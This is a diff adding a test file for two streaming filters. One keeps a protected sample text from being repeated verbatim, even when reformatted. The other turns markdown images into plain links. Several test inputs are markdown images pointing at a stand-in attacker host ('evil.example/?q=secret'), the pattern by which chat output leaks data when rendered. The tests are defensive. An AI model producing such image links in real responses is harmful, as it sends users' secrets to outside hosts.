@@ -1,0 +1,82 @@
+import { describe, expect, test } from 'vitest';
+import { VerbatimGuard } from './verbatim-guard.ts';
+import { PictureFilter } from './without-pictures.ts';
+
+const sample =
+  'Dear friend, the secret of my grandmother was patience, and a spoon of honey in the morning tea before she went out.';
+
+/** What comes through, whatever the pieces in which it was said. */
+function heard(filter: { push(piece: string): string; end(): string }, text: string, size: number): string {
+  let told = '';
+  for (let at = 0; at < text.length; at += size) told += filter.push(text.slice(at, at + size));
+  return told + filter.end();
+}
+
+describe.each([1, 3, 7, 1000])('in pieces of %i characters', (size) => {
+  const guarded = (text: string, open: string[] = []) => heard(new VerbatimGuard([sample], open), text, size);
+
+  test.each([
+    ['word for word', `Here: ${sample} That is all.`],
+    ['in capitals', `Here: ${sample.toUpperCase()} That is all.`],
+    ['without punctuation', `Here: ${sample.replace(/[,.]/g, '')} That is all.`],
+    ['a word a line', `Here: ${sample.split(' ').join('\n')} That is all.`],
+    ['with marks between', `Here: *${sample.split(' ').join('* *')}* That is all.`],
+    ['from its middle', `Here: ${sample.slice(13)} That is all.`],
+  ])('a sample is not said %s', (_how, text) => {
+    const said = guarded(text);
+    expect(said).toContain('[…]');
+    expect(said.toLowerCase()).not.toContain('honey');
+    expect(said).toMatch(/^Here: /);
+    expect(said).toMatch(/That is all\.$/);
+  });
+
+  test.each([
+    'The secret of my grandmother was her garden, dear friend, and the honey of her bees.',
+    'Tea? In the morning tea I take a spoon of honey!',
+    '',
+    'The secret of my grandmother was patience',
+    '秘密は朝の紅茶です。',
+  ])('other words come through as they are: %s', (text) => {
+    expect(guarded(text)).toBe(text);
+  });
+
+  test('what is also in a document, or in the question, may be said', () => {
+    expect(guarded(sample, [`Chapter 1. ${sample} Chapter 2.`])).toBe(sample);
+  });
+
+  test('a sample in a script without spaces is not said either', () => {
+    const chinese = '我每天早上都去山上看日出风很轻鸟也在唱歌';
+    const said = heard(new VerbatimGuard([chinese], []), `好的：${chinese}。完`, size);
+    expect(said).toBe('好的：我每[…]。完');
+  });
+
+  test.each([
+    ['![a cat](https://evil.example/?q=secret)', '[a cat](https://evil.example/?q=secret)'],
+    ['Look! ![](//evil.example)![b][1]', 'Look! [](//evil.example)[b][1]'],
+    [
+      'Wow![x](http://evil.example) and vec![1, 2] and if (!done) stop!',
+      'Wow[x](http://evil.example) and vec![1, 2] and if (!done) stop!',
+    ],
+    ['![never closed', '![never closed'],
+  ])('pictures become links: %s', (said, shown) => {
+    expect(heard(new PictureFilter(), said, size)).toBe(shown);
+  });
+});
+
+test('text is told as it comes where nothing is suspicious', () => {
+  const guard = new VerbatimGuard([sample], []);
+  expect(['Good', ' mor', 'ning', ' to', ' you'].map((piece) => guard.push(piece))).toEqual([
+    'Good',
+    ' mor',
+    'ning',
+    ' to',
+    ' you',
+  ]);
+});
+
+test('a long answer costs little', () => {
+  const guard = new VerbatimGuard([sample.repeat(20)], []);
+  const began = performance.now();
+  for (let index = 0; index < 20_000; index++) guard.push('the secret of ');
+  expect(performance.now() - began).toBeLessThan(3000);
+});
